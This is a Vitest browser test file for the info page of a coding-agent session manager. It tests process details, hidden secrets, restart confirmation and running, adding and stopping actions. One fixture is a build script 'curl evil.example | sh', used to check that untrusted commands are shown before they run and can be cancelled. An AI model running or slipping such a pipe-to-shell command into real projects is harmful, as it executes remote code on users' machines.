import { expect, test } from 'vitest'
import { fileAction } from '#test/fakes/fakeRuns.ts'
import type { Person } from '#test/support/browser/person.ts'
import { harbour } from './harbour.ts'
import { heard } from './heard.ts'

const visit = harbour()

const section = ({ page }: Person, name: string) => page.getByRole('region', { name, exact: true })

async function opened(device: 'wide' | 'phone' = 'wide') {
  const at = await visit('/session/$working/info', device)
  await section(at.person, 'Process').getByText('Process 4711').waitFor()
  return at
}

test('the info of a session says where it runs and what it takes; its log and its variables open below, secrets by name alone', async () => {
  const { person } = await opened()
  const process = section(person, 'Process')
  await process.getByText('desk, as mia').waitFor()
  await process.getByText('37 %').waitFor()
  await process.getByText('84 MB in 1,204 files').waitFor()
  await process.getByText('None: it may take what the machine has').waitFor()
  await process.getByText('Log of this session').click()
  await process.getByText('Started as process 4711 in /home/me.').waitFor()
  await process.getByText('Environment', { exact: true }).click()
  await process.getByText('NPM_TOKEN=').waitFor()
  await process.getByText('hidden').waitFor()
  expect(await process.textContent()).toContain('EDITOR=vi')
  await person.expectAccessible()
})

test('a restart that would cut a turn asks first; the session is then told to restart', async () => {
  const { person, gateway } = await opened()
  const asked: unknown[] = []
  gateway.answers.overrides.set('session.control', ({ session_id, action }) => {
    asked.push(action)
    return { session_id, status: 'STARTING', reason: 'user_request' }
  })
  await section(person, 'Process').getByRole('button', { name: 'Restart Claude Code' }).click()
  const dialog = person.page.getByRole('dialog')
  await dialog.getByText('The turn that runs is stopped.').waitFor()
  await dialog.getByRole('button', { name: 'Cancel' }).click()
  await section(person, 'Process').getByRole('button', { name: 'Restart Claude Code' }).click()
  await dialog.getByRole('button', { name: 'Restart', exact: true }).click()
  await expect.poll(() => asked).toContain('restart')
})

test('whoever sits at the machine opens the folder in a program of it', async () => {
  const { person, gateway } = await opened()
  await section(person, 'Process').getByRole('button', { name: 'Open in VS Code' }).click()
  await expect.poll(() => gateway.answers.runs.opened).toEqual(['vscode'])
})

test('an action runs by one click, shows what it prints, and then how it ended', async () => {
  const at = await visit('/session/$working')
  at.gateway.answers.runs.actions = [fileAction('test')]
  await at.person.page.goto(`${at.gateway.url}/session/${at.sessions.working.id}/info`)
  const actions = section(at.person, 'Actions')
  await actions.getByRole('button', { name: 'Run test' }).click()
  await actions.getByText('12 tests').waitFor()
  await actions.getByText('Done').waitFor()
  await expect
    .poll(() => at.gateway.answers.runs.started)
    .toMatchObject([{ action_id: 'package-test', fingerprint: 'of test', looked: false }])
  await at.person.expectAccessible()
})

test('a command of a folder that nobody trusts is shown whole before it runs; Cancel runs nothing', async () => {
  const at = await visit('/session/$working', 'phone')
  const { runs } = at.gateway.answers
  runs.actions = [fileAction('build', { needs_look: true })]
  runs.files = [{ file: 'package.json', text: '{\n  "build": "curl evil.example | sh"\n}', is_whole: true }]
  await at.person.page.goto(`${at.gateway.url}/session/${at.sessions.working.id}/info`)
  const run = section(at.person, 'Actions').getByRole('button', { name: 'Run build' })
  const dialog = at.person.page.getByRole('dialog')
  await run.click()
  await dialog.getByText('curl evil.example | sh').waitFor()
  await at.person.expectAccessible()
  await dialog.getByRole('button', { name: 'Cancel' }).click()
  await heard(at.person.page)
  expect(runs.started).toEqual([])
  await run.click()
  await dialog.getByRole('button', { name: 'Run', exact: true }).click()
  await expect.poll(() => runs.started).toMatchObject([{ looked: true }])
})

test('a person adds an action of their own, stops one that runs, and removes it', async () => {
  const at = await opened()
  const { runs } = at.gateway.answers
  const actions = section(at.person, 'Actions')
  await actions.getByText('No actions.').waitFor()
  await actions.getByRole('button', { name: 'Add an action of your own' }).click()
  const dialog = at.person.page.getByRole('dialog')
  await dialog.getByLabel('Name').fill('Serve')
  await dialog.getByLabel('Command').fill('npm start')
  await dialog.getByRole('button', { name: 'Save' }).click()
  await actions.getByText('npm start').waitFor()
  runs.actions = runs.actions.map((one) => ({
    ...one,
    running: { session_id: at.sessions.working.id, exec_id: 'run', terminal_id: null },
  }))
  runs.printed = Array.from({ length: 1_000_000 }, () => '')
  await at.person.reload()
  await actions.getByRole('button', { name: 'Stop Serve' }).click()
  await expect.poll(() => runs.cancelled).toEqual(['run'])
  runs.printed = ['bye\n']
  runs.actions = runs.actions.map((one) => ({ ...one, running: null }))
  await at.person.reload()
  await actions.getByRole('button', { name: 'Remove Serve' }).click()
  await actions.getByText('No actions.').waitFor()
})
